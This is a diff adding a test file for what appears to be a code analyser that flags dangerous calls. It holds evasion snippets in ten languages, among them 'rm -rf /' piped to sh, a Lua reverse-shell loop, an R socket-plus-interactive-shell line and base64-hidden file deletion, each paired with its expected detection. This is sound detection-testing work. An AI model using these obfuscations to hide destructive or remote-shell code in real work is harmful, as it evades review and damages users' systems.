@@ -1,0 +1,243 @@
+import {
+  code,
+  connects,
+  hidden,
+  remove,
+  removeAll,
+  runFed,
+  shell,
+  shellFed,
+  talks,
+  testLanguage,
+  write,
+} from './testing.ts'
+
+/** Ways to make a reader look the wrong way. Each of them really runs what is told here. */
+
+testLanguage('python', {
+  evasions: [
+    ['import os; os.system.__call__("id")', shell('id')],
+    ['import os; os.__getattribute__("system")("id")', shell('id')],
+    ['import os; object.__getattribute__(os, "system")("id")', shell('id')],
+    ['import os\n@os.system\ndef f(): pass', shell('…')],
+    ['@exec\n@input\nclass X: pass', code],
+    ['import os; getattr(os, name)("a")', code],
+    ['import os; print = os.remove; print("a")', remove('a')],
+    ['from os import system as len; len("id")', shell('id')],
+    ['# coding: utf-7\n+AGkAbQBwAG8AcgB0- os; os.unlink("a")', remove('a'), code],
+    ['import subprocess; subprocess.run(["sh"], input="rm -rf /", text=True)', runFed('rm -rf /', 'sh')],
+    ['import subprocess as s; p = s.Popen("sh", stdin=s.PIPE); p.communicate(b"id")', runFed('id', 'sh')],
+    [
+      'import subprocess as s; p = s.Popen(["sh"], stdin=s.PIPE); p.stdin.write(b"id\\n"); p.stdin.close()',
+      runFed('id\n', 'sh'),
+    ],
+    ['import os; os.popen("sh", "w").write("id")', shellFed('sh', 'id')],
+    ['x = """\n"""; import os; os.remove("a") # """', remove('a')],
+    ["x = '''' '''; import os; os.remove('a')", remove('a')],
+    ['if 0: pass\nelse:\n\timport os\n\tos.remove("a")', remove('a')],
+    ['import os; (lambda f=os.remove: f("a"))()', remove('a')],
+    ['import os; [f("a") for f in [os.remove]]', remove('a')],
+    ['import os\ntry: x\nexcept: os.remove("a")', remove('a')],
+    ['import os; os.remove("a") if 1 else 0', remove('a')],
+    ['import os; assert os.remove("a")', remove('a')],
+    ['import os; x = y[os.remove("a")]', remove('a')],
+    ['import os; f"{os.remove(\'a\')}"', remove('a')],
+    ['import os; print(f"{os.remove(\'a\')!r:>{10}}")', remove('a')],
+    ['import os\nmatch x:\n  case 1:\n    os.remove("a")', remove('a')],
+    ['import os\nasync def f():\n  await g(os.remove("a"))', remove('a')],
+    ['import os; exec("exec(\\"os.remove(\'a\')\\")")', remove('a')],
+    ["eval(\"\\x5f_import__('os').system('id')\")", shell('id')],
+    ['import os\nx: os.remove("a") = 1\ny: os.remove("b")', remove('a'), remove('b')],
+    ['import os\ndef f(p: os.remove("a") = 1) -> os.remove("b"): pass', remove('b'), remove('a')],
+    ['import os; os.remove("a") # x\ros.remove("b")', remove('a'), remove('b')],
+    ['import os; list(filter(os.remove, ["a"])); sorted(["b"], key=os.remove)', remove('a'), remove('b')],
+    ['import re, os; re.sub("x", os.remove, "a")', remove('a')],
+    ['import os; x[os.remove("a"):] = 1', remove('a')],
+    ['open(0).read()'],
+    ['import sqlite3; sqlite3.connect(":memory:")'],
+  ],
+})
+
+testLanguage('javascript', {
+  evasions: [
+    ['x = function(){} /require("fs").unlinkSync("a")/ 1', remove('a'), code],
+    ['a:{}/"/;require("fs").unlinkSync("a")//"', remove('a'), code],
+    ['x<!--fs.unlinkSync("a")', remove('a')],
+    ['x = y\n/fs.rmSync("a")/g', remove('a')],
+    ['x = {} /fs.rmSync(p)/ 1', remove('…')],
+    ['with (fs) { unlinkSync("a") }', remove('a')],
+    ['fs[name]("a")', code],
+    ['console[level]("a"); handlers[name]("b")'],
+    ['globalThis["ev" + "al"]("fs.rmSync(\'a\')")', remove('a')],
+    ['({}).constructor.constructor("fs.rmSync(\'a\')")()', remove('a')],
+    ['new Function`fs.rmSync("a")```', remove('a')],
+    ['`${fs.rmSync("a")}`', remove('a')],
+    ['x = { get y() { fs.rmSync("a") } }', remove('a')],
+    ['x = { [fs.rmSync("a")]: 1 }', remove('a')],
+    ['function f(p = fs.rmSync("a")) {} f()', remove('a')],
+    ['label: { fs.rmSync("a") }', remove('a')],
+    ['if (x) ; else fs.rmSync("a")', remove('a')],
+    ['for (fs.rmSync("a");;) break', remove('a')],
+    ['async () => { for await (const x of fs.rmSync("a")) ; }', remove('a')],
+    ['throw fs.rmSync("a")', remove('a')],
+    ['x = y ?? fs.rmSync("a"); z ||= fs.rmSync("b")', remove('a'), remove('b')],
+    ['var s = "\\\n"; fs.rmSync("a") // "', remove('a')],
+    ['/* */ fs.rmSync("a") /* */', remove('a')],
+    ['["a"].filter(fs.unlinkSync); ["b"].find(fs.rmSync)', remove('a'), remove('b')],
+    ['"a".replace("a", fs.unlinkSync); Array.from(["b"], fs.rmSync)', remove('a'), remove('b')],
+    ['try { x } catch ({ y = fs.rmSync("a") }) {}', remove('a')],
+    ['switch (x) { case fs.rmSync("a"): }', remove('a')],
+    ['class A { [fs.rmSync("a")]() {} }', remove('a')],
+    ['class A extends fs.rmSync("a") {}', remove('a')],
+    ['//\u2028fs.rmSync("a")', remove('a')],
+    ['const p = child_process.spawn("sh"); p.stdin.write("rm x\\n"); p.stdin.end("id")', runFed('rm x\nid', 'sh')],
+    ['child_process.execSync("sh", { input: "rm x" })', shellFed('sh', 'rm x')],
+  ],
+})
+
+testLanguage('perl', {
+  evasions: [
+    ['my $x\n=unlink("a");\n=cut\n', remove('a')],
+    ['time /unlink("a")/1', remove('a')],
+    ['sub f(){1} f /unlink("a")/1', remove('a'), code],
+    ['use constant Z=>1; my $x = Z <<E;\nunlink("a");\nE\n', remove('a')],
+    ['sub f(){1} my $x = f <<E;\nunlink("a");\nE\n', remove('a')],
+    ['$x->{__END__} = 1; unlink "a"', remove('a')],
+    ['do {1} /unlink("a")/ 1', remove('a'), code],
+    ['print $#{$x}; unlink "a"', remove('a')],
+    ["$x = $'; unlink 'a'", remove('a')],
+    ['my %h = (y => 1); $h{y} = 2; unlink "a"; # y/', remove('a')],
+    ['s,x,y,; unlink "a"', remove('a')],
+    ['$x = qq#"#; unlink "a" #"', remove('a')],
+    ['unlink "a" # comment "\n', remove('a')],
+    ['"x" =~ /x(?{ unlink "a" })/', remove('a')],
+    ['@{[ unlink "a" ]}', remove('a')],
+    ['print "${\\ unlink(q(a))}"', remove('a')],
+    ['open(P, "| sh"); print P "rm x\\n"', shellFed('sh', 'rm x\n')],
+    ['sub AUTOLOAD { unlink "a" }', remove('a')],
+    ['local $SIG{__DIE__} = sub { unlink "a" }; die', remove('a')],
+    ['&{"unl" . "ink"}("a")', remove('a')],
+    ['$f = $ENV{NOPE}; &$f("a")', { kind: 'env', name: 'NOPE' }, code],
+    ['sort { unlink "a" } 1, 2', remove('a')],
+    ['use constant X => unlink("a"); use lib do { unlink "b" }; use POSIX 1.0 qw(unlink)', remove('a'), remove('b')],
+  ],
+})
+
+testLanguage('ruby', {
+  evasions: [
+    ['x = 5; x /File.delete("a")/ 1', remove('a'), code],
+    ['x = 5; x %q(File.delete("a"))', remove('a'), code],
+    ['E = 1; x = 2; x <<E\nFile.delete("a")\nE\n', remove('a')],
+    ['File.send(name, "a")', code],
+    ['puts "#{File.delete("a")}"', remove('a')],
+    ['/#{File.delete("a")}/', remove('a')],
+    ['%W[#{File.delete("a")}]', remove('a')],
+    [':"#{File.delete("a")}"', remove('a')],
+    ['BEGIN { File.delete("a") }', remove('a')],
+    ['x = *File.delete("a")', remove('a')],
+    ['def f(p = File.delete("a")); end', remove('a')],
+    ['IO.popen(["sh"], "w") { |p| p.puts "id" }', runFed('id', 'sh')],
+    ['Open3.capture3("sh", stdin_data: "id")', shellFed('sh', 'id')],
+    ['->{ File.delete("a") }.()', remove('a')],
+    ['File.delete("a") rescue nil', remove('a')],
+    ['x&.y(File.delete("a"))', remove('a')],
+    ['x[1, File.delete("a")]', remove('a')],
+    ['case x when File.delete("a") then 1 end', remove('a')],
+    ['begin; x; rescue File.delete("a"); end', remove('a')],
+    ['class A < File.delete("a"); end', remove('a')],
+    ['puts <<A + <<B\n#{File.delete("a")}\nA\n#{File.delete("b")}\nB\n', remove('a'), remove('b')],
+  ],
+})
+
+testLanguage('php', {
+  evasions: [
+    ['$f = getenv("NOPE"); $f("a");', { kind: 'env', name: 'NOPE' }, code],
+    ['("un" . "link")("a");', remove('a')],
+    ['echo "{$x[unlink("a")]}";', remove('a')],
+    ['// x ?> <?php unlink("a");', remove('a')],
+    ['# x ?><?php unlink("a"); ?>', remove('a')],
+    ['echo <<<"E"\n{${unlink("a")}}\nE;', remove('a')],
+    ['$p = popen("sh", "w"); fwrite($p, "id");', shellFed('sh', 'id')],
+    ['(function () { unlink("a"); })();', remove('a')],
+    ['new class { function __construct() { unlink("a"); } };', remove('a')],
+    ['new class(unlink("a")) {};', remove('a')],
+    ['goto x; x: unlink("a");', remove('a')],
+    ['echo match($x) { unlink("a"), unlink("b") => 1 };', remove('a'), remove('b')],
+    ['switch ($x) { case unlink("a"): break; }', remove('a')],
+    ['$$n("a"); unlink("b");', remove('b')],
+    ['static fn() => unlink("a");', remove('a')],
+  ],
+})
+
+testLanguage('awk', {
+  evasions: [
+    ['BEGIN { if (1) /"/; system("id") #"\n}', shell('id')],
+    ['BEGIN { x = y / system("id") / 2 }', shell('id')],
+    ['BEGIN { print "rm -rf /" | "sh" }', shellFed('sh', 'rm -rf /\n')],
+    ['BEGIN { print > "a" "b" }', write('ab')],
+    ['{ x[system("id")] }', shell('id')],
+    ['BEGIN { $(system("id")) }', shell('id')],
+    ['a[1] / system("id") / 1 { }', shell('id')],
+    ['function f(x) { return x } BEGIN { f(system("id")) }', shell('id')],
+    ['BEGIN { printf "%s", system("id") }', shell('id')],
+    ['END { while ("id" | getline > 0) ; }', shell('id')],
+  ],
+})
+
+testLanguage('lua', {
+  evasions: [
+    ['os[name]("a")', code],
+    ['local s = "\\\n" os.remove("a") -- "', remove('a')],
+    ['--[=[ ]] os.remove("no") ]=] os.remove("a")', remove('a')],
+    ['goto x ::x:: os.remove("a")', remove('a')],
+    ['x = { os.remove("a"), y = os.remove("b") }', remove('a'), remove('b')],
+    ['io.popen("sh", "w"):write("id")', shellFed('sh', 'id')],
+    ['setmetatable({}, { __index = function() os.remove("a") end })', remove('a')],
+    [
+      'local s = require("socket").tcp(); s:connect("h", 1); while true do local f = io.popen(s:receive()) s:send(f:read("*a")) end',
+      talks('h:1'),
+      shell('…'),
+      { kind: 'code', decoded: false, network: true },
+    ],
+  ],
+})
+
+testLanguage('applescript', {
+  evasions: [
+    ['«event sysoexec» "id"', shell('id')],
+    [
+      "current application's NSFileManager's defaultManager()'s removeItemAtPath:\"/a\" |error|:(missing value)",
+      removeAll('/a'),
+    ],
+    ['do shell script "a" -- x\ndo shell script "b"', shell('a'), shell('b')],
+    ['try\n  do shell script "id"\non error\nend try', shell('id')],
+  ],
+})
+
+testLanguage('r', {
+  evasions: [
+    ['"unlink"("a")', remove('a')],
+    ['(function() unlink("a"))()', remove('a')],
+    ['x <- if (TRUE) unlink("a")', remove('a')],
+    ['local({ unlink("a") })', remove('a')],
+    ['x[1, unlink("a")]', remove('a')],
+    ['tryCatch(unlink("a"), error = function(e) unlink("b"))', remove('a'), remove('b')],
+    ['Reduce(function(a, b) unlink(b), c("x"))', remove('…')],
+    ['writeLines("id", pipe("sh", "w"))', shellFed('sh', 'id')],
+    ['eval(parse(text = rawToChar(base64enc::base64decode("dW5saW5rKCJhIik="))))', hidden('unlink("a")'), remove('a')],
+    ['x = "unlink"; do.call(x, list("a")); get(x)("b")', remove('a'), remove('b')],
+    ['socketConnection("h", 1); system("sh -i")', connects('h:1'), shell('sh -i')],
+  ],
+})
+
+testLanguage('sed', {
+  evasions: [
+    ['s/x/y/;1e id', shell('id')],
+    ['1{e id\n}', shell('id')],
+    ['/a/ , /b/ ! e id', shell('id')],
+    ['s#a#w x#;w out', write('out')],
+    ['s/a\\\nb/c/;w out', write('out')],
+    ['$!N;P;D;w out', write('out')],
+    ['y/;/e/;e id', shell('id')],
+  ],
+})
